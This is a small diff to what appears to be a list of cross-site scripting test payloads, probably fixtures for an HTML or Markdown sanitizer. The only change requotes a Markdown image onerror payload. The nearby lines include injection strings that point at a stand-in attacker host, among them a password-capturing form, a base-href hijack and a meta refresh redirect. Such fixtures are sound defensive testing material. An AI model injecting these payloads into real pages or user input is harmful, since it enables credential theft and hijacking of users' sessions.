@@ -21,7 +21,7 @@ XSS_PAYLOADS = [
     "<form action=https://evil.example><input type=password></form>",
     "<object data=x></object><embed src=x>",
     '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
-    "![x](x\" onerror=\"alert(1))",
+    '![x](x" onerror="alert(1))',
     '<base href="https://evil.example/">',
     '<meta http-equiv="refresh" content="0;url=https://evil.example">',
     "<style>body{display:none}</style>",
